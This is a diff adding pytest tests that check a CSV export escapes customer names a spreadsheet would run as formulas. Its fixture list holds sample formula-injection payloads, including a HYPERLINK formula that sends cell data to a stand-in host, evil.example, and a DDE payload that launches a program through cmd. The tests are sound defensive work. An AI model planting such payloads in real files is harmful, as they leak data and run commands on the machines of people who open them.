@@ -132,6 +132,72 @@ def test_csv_parses_back_one_row_per_group_and_the_total(store):
     assert int(total["opened"]) == 13 and float(total["billable_amount"]) == 387.5
 
 
+# Customers whose names a spreadsheet would run as formulas, each with one call in
+# July. (A leading tab or carriage return is stripped when the contract file is
+# loaded, so those two of OWASP's list are checked on spreadsheet_cell alone.)
+FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")
+
+
+@pytest.fixture(scope="module")
+def formula_db(db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    base = tmp_path_factory.mktemp("formulas")
+    copy = base / "f.db"
+    src, dst = sqlite3.connect(db), sqlite3.connect(copy)
+    src.backup(dst)
+    src.close()
+    dst.close()
+    extra = base / "formulas.toml"
+    extra.write_text("".join(f"[customers.f{n}]\nname = {json.dumps(name)}\ncode = \"F{n}\"\ntz = \"Europe/Amsterdam\"\n\n"
+                             for n, name in enumerate(FORMULA_NAMES)), encoding="utf-8")
+    with Store.open(copy) as store:
+        load_files(store, [extra], at("2026-07-20 09:00"))
+        when = at("2026-07-23 10:00")
+        for n in range(len(FORMULA_NAMES)):
+            open_call(store, NewCall(customer=f"F{n}", service="email", title="=1+1", reported_at=when), "ann", when)
+    return copy
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
+def test_a_cell_that_starts_like_a_formula_is_shown_as_text(text):
+    assert export.spreadsheet_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["Acme", "", " =1", "1-2", "a=b", "'=1", 0, -5, -0.5, 2.5, None])
+def test_other_cells_and_numbers_are_left_as_they_are(value):
+    # Numbers slaboard writes stay numbers, negative ones too: a spreadsheet reads
+    # them as values, and a tool reading the CSV still gets a number.
+    assert export.spreadsheet_cell(value) == value
+
+
+def test_csv_text_escapes_headers_and_cells_and_keeps_numbers():
+    text = export.csv_text(["name", "late_s"], [{"name": "=cmd()", "late_s": -5}])
+    assert list(csv.reader(io.StringIO(text))) == [["name", "late_s"], ["'=cmd()", "-5"]]
+
+
+def test_csv_never_starts_a_cell_with_a_formula(formula_db):
+    with Store.open(formula_db) as store:
+        r = report(store, grouping="customer", customer=None)
+    rows = list(csv.DictReader(io.StringIO(export.to_csv(r))))
+    groups = [row["group"] for row in rows]
+    for name in FORMULA_NAMES:
+        assert "'" + name in groups
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # The figures are still numbers, read back as before.
+    assert int(rows[-1]["opened"]) == 13 + len(FORMULA_NAMES)
+
+
+def test_cli_csv_escapes_a_hostile_customer_name(formula_db, run, monkeypatch):
+    monkeypatch.setenv("SLABOARD_DB", str(formula_db))
+    monkeypatch.setenv("SLABOARD_NOW", NOW_ISO)
+    code, text, err = run("report", "--period", "2026-07", "--by", "customer", "--format", "csv")
+    assert code == 0, err
+    rows = {row["group"]: row for row in csv.DictReader(io.StringIO(text))}
+    assert int(rows["'" + FORMULA_NAMES[0]]["opened"]) == 1
+    assert not any(key.startswith(("=", "+", "-", "@")) for key in rows)
+
+
 def test_json_parses_back_with_numbers_and_iso_instants(store):
     data = json.loads(export.to_json(report(store, "2026-Q3")))
     assert data["period"] == {"label": "Q3 2026", "from": "2026-07-01", "to": "2026-09-30", "tz": "Europe/Amsterdam"}
